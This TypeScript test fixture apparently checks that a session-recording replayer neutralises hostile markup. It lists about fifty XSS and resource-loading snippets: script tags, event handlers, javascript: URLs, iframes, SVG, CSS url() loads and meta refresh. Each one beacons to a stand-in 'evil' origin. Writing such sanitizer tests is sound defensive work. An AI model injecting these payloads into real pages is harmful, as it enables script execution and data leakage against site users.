/** Pages that want to act: markup which runs scripts, loads from elsewhere or leads away, wherever it is let. */

/** `payload` runs in a script and says who it was; `evil` is an origin that nothing may ask for anything. */
export function hostileMarkup(evil: string): [name: string, html: string][] {
  const run = (name: string): string =>
    `top.pwned=(top.pwned||[]).concat('${name}');new Image().src='${evil}/ran/${name}'`;
  const js = (name: string): string => `javascript:${run(name)}`;
  return [
    ['script', `<script>${run('script')}</script>`],
    ['script-src', `<script src="${evil}/script-src.js"></script>`],
    ['module', `<script type="module">${run('module')}</script>`],
    ['img-onerror', `<img src="nothing.png" onerror="${run('img-onerror')}">`],
    ['img-src', `<img src="${evil}/img-src.png">`],
    ['img-srcset', `<img srcset="${evil}/img-srcset.png 1x">`],
    [
      'img-srcset-mixed',
      `<img srcset="data:image/gif;base64,R0lGODlhAQABAAAAACw= 1x, ${evil}/img-srcset-mixed.png 2x">`,
    ],
    ['img-scheme-relative', `<img src="${evil.replace(/^http:/, '')}/img-scheme-relative.png">`],
    ['picture', `<picture><source srcset="${evil}/picture.png"><img></picture>`],
    ['svg-onload', `<svg onload="${run('svg-onload')}"></svg>`],
    ['svg-script', `<svg><script>${run('svg-script')}</script></svg>`],
    [
      'svg-image',
      `<svg width="9" height="9"><image href="${evil}/svg-image.png" width="9" height="9"/></svg>`,
    ],
    [
      'svg-xlink',
      `<svg width="9" height="9"><image xlink:href="${evil}/svg-xlink.png" width="9" height="9"/></svg>`,
    ],
    ['svg-use', `<svg><use href="${evil}/svg-use.svg#a"/></svg>`],
    [
      'svg-filter',
      `<svg><filter id="f"><feImage href="${evil}/svg-filter.png"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
    ],
    ['svg-animate', `<svg><animate onbegin="${run('svg-animate')}" attributeName="x" dur="1s"/></svg>`],
    ['svg-link', `<svg><a xlink:href="${js('svg-link')}"><text y="20">x</text></a></svg>`],
    ['link-javascript', `<a id="javascript-link" href="${js('link-javascript')}">x</a>`],
    ['link-ping', `<a id="link" href="${evil}/link" ping="${evil}/link-ping" target="_top">x</a>`],
    ['iframe-src', `<iframe src="${evil}/iframe-src"></iframe>`],
    ['iframe-srcdoc', `<iframe srcdoc="&lt;script&gt;${run('iframe-srcdoc')}&lt;/script&gt;"></iframe>`],
    ['iframe-javascript', `<iframe src="${js('iframe-javascript')}"></iframe>`],
    ['iframe-data', `<iframe src="data:text/html,<img src='${evil}/iframe-data.png'>"></iframe>`],
    [
      'iframe-picture',
      `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run('iframe-picture').replaceAll("'", '&apos;')}'/>"></iframe>`,
    ],
    ['object', `<object data="${evil}/object"></object>`],
    ['object-javascript', `<object data="${js('object-javascript')}"></object>`],
    ['embed', `<embed src="${evil}/embed">`],
    [
      'form',
      `<form action="${evil}/form"><input autofocus onfocus="${run('form')}"><button formaction="${js('form')}">x</button></form>`,
    ],
    ['input-image', `<input type="image" src="${evil}/input-image.png" onerror="${run('input-image')}">`],
    ['refresh', `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`],
    ['refresh-javascript', `<meta http-equiv="refresh" content="0;url=${js('refresh-javascript')}">`],
    ['base', `<base href="${evil}/base/"><img src="base.png">`],
    ['stylesheet', `<link rel="stylesheet" href="${evil}/stylesheet.css">`],
    ['preload', `<link rel="preload" as="image" href="${evil}/preload.png">`],
    ['modulepreload', `<link rel="modulepreload" href="${evil}/modulepreload.js">`],
    ['prefetch', `<link rel="prefetch" href="${evil}/prefetch">`],
    ['icon', `<link rel="icon" href="${evil}/icon.png"><link rel="manifest" href="${evil}/manifest.json">`],
    ['css-import', `<style>@import url("${evil}/css-import.css");</style>`],
    ['css-background', `<style>body { background: url("${evil}/css-background.png") }</style>`],
    ['css-escaped', `<style>html { background: \\75 rl(${evil}/css-escaped.png) }</style>`],
    [
      'css-font',
      `<style>@font-face { font-family: x; src: url("${evil}/css-font.woff2") } p { font-family: x }</style><p>x</p>`,
    ],
    [
      'css-others',
      `<style>b { cursor: url("${evil}/cursor.png"), auto; list-style-image: url("${evil}/list.png"); display: list-item; border-image: url("${evil}/border.png"); mask: url("${evil}/mask.png") } b::after { content: url("${evil}/content.png") }</style><b>x</b>`,
    ],
    [
      'style-attribute',
      `<div style="background: url('${evil}/style-attribute.png'); width: 9px; height: 9px"></div>`,
    ],
    ['video', `<video src="${evil}/video.mp4" poster="${evil}/poster.png" autoplay muted></video>`],
    ['audio', `<audio src="${evil}/audio.mp3" autoplay></audio>`],
    [
      'source',
      `<video><source src="${evil}/source.mp4" onerror="${run('source')}"><track src="${evil}/track.vtt" default></video>`,
    ],
    ['details', `<details open ontoggle="${run('details')}">x</details>`],
    [
      'animation',
      `<style>@keyframes a { to { opacity: 0 } }</style><div style="animation: a 10ms" onanimationstart="${run('animation')}">x</div>`,
    ],
    ['marquee', `<marquee onstart="${run('marquee')}">x</marquee>`],
    ['math', `<math><maction xlink:href="${js('math')}">x</maction></math>`],
    ['noscript', `<noscript><img src="${evil}/noscript.png"></noscript>`],
    [
      'foreign-object',
      `<svg><foreignObject><iframe srcdoc="&lt;img src=${evil}/foreign-object.png&gt;"></iframe></foreignObject></svg>`,
    ],
    [
      'over-everything',
      '<div style="position: fixed; inset: -9999px; z-index: 2147483647; background: red"></div>',
    ],
  ];
}

/** Hints that no policy stops; a recording comes without them. */
export const hostileHints = (evil: string): string =>
  `<link rel="preconnect" href="${evil}"><link rel="dns-prefetch" href="${evil}"><link rel="prerender" href="${evil}/prerender">`;

/**
 * In a page, as text: takes markup apart into the nodes of a recorder which leaves nothing out. A node's id is its place
 * in the page's order; the document itself has 1.
 */
export const TO_NODES = `(html) => {
  let id = 1;
  const page = new DOMParser().parseFromString(html, 'text/html');
  const toNode = (node) => {
    const mine = id++;
    if (node.nodeType === 3) return { type: 3, id: mine, textContent: node.data, isStyle: node.parentNode.nodeName === 'STYLE' };
    if (node.nodeType !== 1) return { type: 5, id: mine, textContent: '' };
    const attributes = Object.fromEntries([...node.attributes].map(({ name, value }) => [name, value]));
    const isSVG = node.namespaceURI.endsWith('svg') ? { isSVG: true } : {};
    return { type: 2, id: mine, tagName: node.localName, attributes, ...isSVG, childNodes: [...node.childNodes].map(toNode) };
  };
  return { type: 0, id: id++, childNodes: [toNode(page.documentElement)] };
}`;
